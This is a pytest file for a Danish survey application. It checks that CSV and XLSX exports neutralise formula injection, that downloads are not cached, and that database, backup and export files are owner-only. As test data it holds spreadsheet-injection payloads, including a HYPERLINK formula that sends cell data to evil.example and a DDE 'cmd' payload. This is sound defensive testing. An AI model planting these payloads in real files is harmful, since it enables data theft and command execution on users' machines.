"""Every file the product hands out: no CSV cell runs as a formula, downloads are not cached,
and the database, its -wal and -shm, backups and exports are readable by their owner only.

The poisoned database: an admin renamed Køge's cluster to ``=1+1``; the organisation round is
called ``@SUM(1+1)``; Køge's IPS team answered the chat with comments that are formulas, and
Næstved's answer (stored by the domain function) starts with a tab. Every CSV producer
listed in PRODUCERS is checked against it, and a route or ``csv.writer`` not listed fails.
"""

from __future__ import annotations

import csv
import io
import os
import re
import stat
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
import time_machine

from survey_app import PROJECT_ROOT, clock, create_app, exports, rounds, safe_csv
from survey_app.context import get_db
from survey_app.db import transaction
from survey_app.questionnaires import parse_questionnaire
from tests.cohort import Person, build
from tests.functional.test_rounds import ORG, TEAM_LINK, post_answer, start
from tests.helpers import csrf_token

pytestmark = pytest.mark.slow  # the everyday run (README) leaves these out

NOW = datetime(2026, 12, 1, 10, 0, tzinfo=clock.LOCAL_TZ)
CLUSTER = "=1+1"
ROUND = "@SUM(1+1)"
COMMENTS = {
    "org_1_comment": '=HYPERLINK("http://evil.example/?x="&A2,"Klik")',
    "org_2_comment": "+cmd|' /C calc'!A0",
    "org_3_comment": "@SUM(1+1)",
    "org_4_comment": "-2+3",
}
TAB_COMMENT = "\tSUM(A1:A9)"
NUMBER = re.compile(r"-?\d+([.,]\d+)?")

# Every CSV the product writes: (who, what, separator). Web paths take the round's id.
PRODUCERS = [
    ("evaluator", "/evaluering/eksport/csv?questionnaire=csq8", ","),
    ("evaluator", "/evaluering/eksport/csv-da?questionnaire=csq8", ";"),
    ("evaluator", "/evaluering/eksport/kodebog.csv?questionnaire=csq8", ","),
    ("evaluator", "/evaluering/eksport/csv?questionnaire=csq8&niveau=deltager", ","),
    ("evaluator", "/evaluering/eksport/csv-da?questionnaire=csq8&niveau=deltager", ";"),
    ("evaluator", "/evaluering/eksport/kodebog.csv?questionnaire=csq8&niveau=deltager", ","),
    ("evaluator", "/evaluering/organisation/{round}/svar.csv", ","),
    ("evaluator", "/evaluering/fidelitet/skabelon/ips25.csv", ";"),
    ("evaluator", "/evaluering/fidelitet/skabelon/ips15.csv", ";"),
    ("consultant", "/konsulent/import/skabelon.csv", ";"),
    ("consultant", "/konsulent/deltagere.csv", ";"),
    ("consultant", "/konsulent/oversigt.csv", ";"),
    ("cli", "export --format csv", ","),
    ("cli", "export --format csv --excel-da", ";"),
    ("cli", "export --level participant --format csv", ","),
    ("cli", "export --level participant --format csv --excel-da", ";"),
    ("cli", "report --by cluster --format csv", ","),
    ("cli", "report --by municipality --format csv", ","),
    ("cli", "report --by region --format csv", ","),
]
# Every other download, with its Content-Type.
OTHER_DOWNLOADS = [
    (
        "/evaluering/eksport/xlsx?questionnaire=csq8",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    ("/evaluering/eksport/sav?questionnaire=csq8", "application/x-spss-sav"),
    ("/evaluering/eksport/sav?questionnaire=csq8&niveau=deltager", "application/x-spss-sav"),
    ("/evaluering/eksport/syntaks/r", "text/plain; charset=utf-8"),
    ("/evaluering/eksport/syntaks/sps", "text/plain; charset=utf-8"),
    ("/evaluering/eksport/syntaks/do", "text/plain; charset=utf-8"),
    ("/evaluering/eksport/dta?questionnaire=csq8", "application/x-stata-dta"),
]


@pytest.fixture
def poisoned(app, db, runner, login):
    """The poisoned database (above); returns the clients by role, the round id and the runner."""
    with time_machine.travel(NOW, tick=False):
        build(
            db,
            app.extensions["questionnaires"]["csq8"],
            [Person(f"KØ-{n}", "259", "2025-01-01", "completed", 20 + n) for n in range(6)],
        )
        admin = login("admin", ())
        cluster_id, members = _cluster_of(db, "259")
        page = admin.get(f"/admin/klynger/{cluster_id}")
        renamed = admin.post(
            f"/admin/klynger/{cluster_id}",
            data={"csrf_token": csrf_token(page.text), "name": CLUSTER, "municipalities": members},
        )
        assert renamed.status_code == 303, renamed.text
        assert db.execute("SELECT name FROM cluster WHERE id = ?", [cluster_id]).fetchone()[0] == CLUSTER

        for code, email in (("259", "ips@koege.dk"), ("370", "ips@naestved.dk")):
            assert runner.invoke(args=["teams", "set", code, "--email", email]).exit_code == 0
        opened = runner.invoke(args=["rounds", "open", ROUND, "--deadline", "2027-01-31"])
        assert opened.exit_code == 0, opened.output
        links = {
            line.split("\t")[0]: TEAM_LINK.match(line.split("\t")[2]).group(1)
            for line in opened.stdout.splitlines()
        }
        _answer_through_the_chat(app.test_client(), links["259"])
        round_id = db.execute("SELECT id FROM round").fetchone()[0]
        naestved = next(
            team for team in rounds.team_statuses(db, round_id) if team["municipality_code"] == "370"
        )
        rounds.store_answer(
            db,
            ORG,
            naestved["id"],
            naestved["nonce"],
            ORG.item("org_other"),
            TAB_COMMENT,
            changed_by="team",
            now=NOW,
        )
        clients = {"evaluator": login("evaluator", ()), "consultant": login("consultant", ("259",))}
        yield clients, round_id, runner


def _cluster_of(db, code):
    cluster_id = db.execute(
        "SELECT cluster_id FROM cluster_municipality WHERE municipality_code = ?", [code]
    ).fetchone()[0]
    members = [
        row[0]
        for row in db.execute(
            "SELECT municipality_code FROM cluster_municipality WHERE cluster_id = ?", [cluster_id]
        )
    ]
    return cluster_id, members


def _answer_through_the_chat(client, link):
    start(client, link)
    page = client.get("/team/svar")
    for item in ORG.items:
        if item.scored:
            response = post_answer(client, page.text, item.id, 1)
        elif item.id in COMMENTS:
            response = post_answer(client, page.text, item.id, COMMENTS[item.id])
        else:
            response = post_answer(client, page.text, item.id, skip=True)
        assert response.status_code == 303
        page = client.get(response.location)


def _produce(poisoned, who, what, tmp_path) -> list[str]:
    """The CSV text(s) a producer writes on the poisoned database."""
    clients, round_id, runner = poisoned
    with time_machine.travel(NOW, tick=False):
        if who != "cli":
            response = clients[who].get(what.format(round=round_id))
            data = response.get_data()  # first: a streamed download ends its request when read
            assert response.status_code == 200
            assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
            assert response.headers["Cache-Control"] == "no-store"
            assert response.headers["Content-Disposition"].startswith("attachment")
            return [data.decode("utf-8")]
        args = what.split()
        if args[0] == "export":
            out = tmp_path / "udtraek.csv"
            result = runner.invoke(args=[*args, "--out", str(out)])
            assert result.exit_code == 0, result.output
            return [out.read_text("utf-8"), (tmp_path / "udtraek_kodebog.csv").read_text("utf-8")]
        result = runner.invoke(args=args)
        assert result.exit_code == 0, result.output
        return [result.stdout]


def _cells(text: str, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator))


@pytest.mark.parametrize(("who", "what", "separator"), PRODUCERS, ids=[what for _, what, _ in PRODUCERS])
def test_no_csv_cell_can_run_as_a_formula(poisoned, who, what, separator, tmp_path):
    for text in _produce(poisoned, who, what, tmp_path):
        rows = _cells(text, separator)
        assert len(rows) >= 1
        for row in rows:
            for cell in row:
                # A cell starting like a formula is a number the code wrote, or it is neutralised.
                assert not cell.startswith(safe_csv.FORMULA_START) or NUMBER.fullmatch(cell), (what, cell)


def _column(text, separator, name):
    header, *rows = _cells(text, separator)
    return [row[header.index(name)] for row in rows]


def test_team_comments_are_neutralised_in_the_organisation_csv(poisoned, tmp_path):
    [text] = _produce(poisoned, "evaluator", "/evaluering/organisation/{round}/svar.csv", tmp_path)
    header, *rows = _cells(text, ",")
    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    for item_id, comment in COMMENTS.items():
        assert by_code["259"][item_id] == "'" + comment
    assert by_code["370"]["org_other"] == "'" + TAB_COMMENT
    assert by_code["259"]["runde"] == "'" + ROUND
    assert by_code["259"]["org_1"] == "1"  # answers stay numbers


def test_the_cluster_name_is_neutralised_in_the_exports_and_the_report(poisoned, tmp_path):
    web = _produce(poisoned, "evaluator", "/evaluering/eksport/csv?questionnaire=csq8", tmp_path)[0]
    assert set(_column(web, ",", "cluster")) == {"'" + CLUSTER}
    assert set(_column(web, ",", "total")) == {str(20 + n) for n in range(6)}
    danish = _produce(poisoned, "cli", "export --format csv --excel-da", tmp_path)[0]
    assert set(_column(danish, ";", "cluster")) == {"'" + CLUSTER}
    report = _produce(poisoned, "cli", "report --by cluster --format csv --no-suppress", tmp_path)[0]
    groups = {row[0]: row for row in _cells(report, ",")[1:]}
    assert "'" + CLUSTER in groups and CLUSTER not in groups
    assert groups["'" + CLUSTER][1] == "6"  # eligible: a count, as written


def test_the_xlsx_export_writes_the_cluster_name_as_a_text_cell(poisoned, tmp_path):
    clients, _, runner = poisoned
    with time_machine.travel(NOW, tick=False):
        web = clients["evaluator"].get("/evaluering/eksport/xlsx?questionnaire=csq8").get_data()
        out = tmp_path / "udtraek.xlsx"
        assert runner.invoke(args=["export", "--format", "xlsx", "--out", str(out)]).exit_code == 0
    for workbook in (openpyxl.load_workbook(io.BytesIO(web)), openpyxl.load_workbook(out)):
        data = workbook["Data"]
        header = [cell.value for cell in data[1]]
        cells = [row[header.index("cluster")] for row in data.iter_rows(min_row=2)]
        assert len(cells) == 6
        for cell in cells:
            assert cell.value == CLUSTER and cell.data_type == "s"  # not the formula =1+1
        totals = [row[header.index("total")] for row in data.iter_rows(min_row=2)]
        assert {cell.value for cell in totals} == set(range(20, 26)) and {c.data_type for c in totals} == {
            "n"
        }


def test_the_xlsx_codebook_writes_labels_as_text_cells(db, tmp_path):
    # Value labels come from questionnaire files, which an installation may override.
    questionnaire = parse_questionnaire(
        Path("poisoned.toml"),
        {
            "id": "poisoned",
            "wording": "original",
            "title": {"da": "Forgiftet"},
            "items": [
                {
                    "id": "q1",
                    "text": {"da": "Spørgsmål"},
                    "options": [
                        {"score": 1, "label": {"da": "=1+1"}},
                        {"score": 2, "label": {"da": '=HYPERLINK("http://evil.example/","Klik")'}},
                    ],
                }
            ],
        },
    )
    exports.write_export(db, questionnaire, "xlsx", tmp_path / "kodebog.xlsx")
    book = openpyxl.load_workbook(tmp_path / "kodebog.xlsx")["Kodebog"]
    labels = {row[0].value + str(row[2].value): row[3] for row in book.iter_rows(min_row=2) if row[2].value}
    assert labels["q11"].value == "=1+1" and labels["q11"].data_type == "s"
    assert labels["q12"].value.startswith("=HYPERLINK") and labels["q12"].data_type == "s"
    rows = _cells(exports.codebook_csv(questionnaire), ",")
    assert [row[3] for row in rows if row[0] == "q1"] == [
        "'=1+1",
        '\'=HYPERLINK("http://evil.example/","Klik")',
    ]


def test_every_download_is_not_cached_and_has_one_content_type(poisoned):
    clients, _, _ = poisoned
    for path, content_type in OTHER_DOWNLOADS:
        response = clients["evaluator"].get(path)
        response.get_data()
        assert response.status_code == 200, path
        assert response.headers["Content-Type"] == content_type
        assert response.headers["Cache-Control"] == "no-store", path
        assert response.headers["Content-Disposition"].startswith("attachment")


def test_every_csv_route_and_writer_is_in_the_list(app):
    listed = {what.split("?")[0] for who, what, _ in PRODUCERS if who != "cli"}
    listed |= {path.split("?")[0] for path, _ in OTHER_DOWNLOADS}
    for rule in app.url_map.iter_rules():
        if rule.rule.endswith(".csv") or rule.rule.startswith("/evaluering/eksport"):
            pattern = re.sub(r"<[^>]+>", "[^/]+", rule.rule)
            assert any(re.fullmatch(pattern, path) for path in listed), f"{rule.rule} is not in PRODUCERS"
    for source in (PROJECT_ROOT / "survey_app").rglob("*.py"):
        if source.name != "safe_csv.py":
            text = source.read_text("utf-8")
            assert not re.search(r"(?<![\w.])csv\.(Dict)?[Ww]riter\(", text), (
                f"{source} writes CSV without safe_csv"
            )
            assert "text/csv;" not in text, (
                f"{source}: give mimetype=safe_csv.MEDIA_TYPE; Flask adds the charset"
            )


# -- files on disk ------------------------------------------------------------------------------


@pytest.fixture
def umask_022():
    old = os.umask(0o022)  # a checkout's usual umask: files readable by everyone
    yield
    os.umask(old)


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_the_database_and_its_wal_and_shm_are_private(tmp_path, umask_022):
    database = tmp_path / "instance" / "survey.db"
    app = create_app({"TESTING": True, "SECRET_KEY": "x" * 32, "DATABASE": str(database)})
    with app.app_context():
        db = get_db()
        with transaction(db):
            db.execute(
                "INSERT INTO audit (at, actor, action) VALUES ('2026-12-01T09:00:00+00:00', 'test', 'write')"
            )
        # The app keeps its connection open, so the write-ahead log and shared memory are there.
        for path in (database, Path(f"{database}-wal"), Path(f"{database}-shm")):
            assert path.exists() and mode(path) == 0o600, path
    db.close()


def test_init_db_creates_a_private_database_and_start_makes_an_old_one_private(
    app, runner, tmp_path, umask_022
):
    database = Path(app.config["DATABASE"])
    for path in (database, Path(f"{database}-wal"), Path(f"{database}-shm")):
        path.unlink(missing_ok=True)
    result = runner.invoke(args=["init-db"])
    assert result.exit_code == 0 and "Migreringer udført" in result.output
    assert mode(database) == 0o600

    old = tmp_path / "old.db"
    old.touch(mode=0o644)
    os.chmod(old, 0o644)  # as an earlier version left it
    create_app({"TESTING": True, "SECRET_KEY": "x" * 32, "DATABASE": str(old)})
    assert mode(old) == 0o600


def test_a_backup_is_private(app, runner, tmp_path, umask_022):
    target = tmp_path / "backups" / "survey-Mon.db"
    target.parent.mkdir()
    result = runner.invoke(args=["backup", str(target)])
    assert result.exit_code == 0, result.output
    assert mode(target) == 0o600
    assert sorted(p.name for p in target.parent.iterdir()) == ["survey-Mon.db"]
    again = runner.invoke(args=["backup", str(target)])  # replacing last week's copy
    assert again.exit_code == 0 and mode(target) == 0o600


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "sav", "dta"])
def test_an_export_file_is_private(runner, tmp_path, umask_022, fmt):
    out = tmp_path / f"udtraek.{fmt}"
    result = runner.invoke(args=["export", "--format", fmt, "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert mode(out) == 0o600
    if fmt == "csv":
        assert mode(tmp_path / "udtraek_kodebog.csv") == 0o600
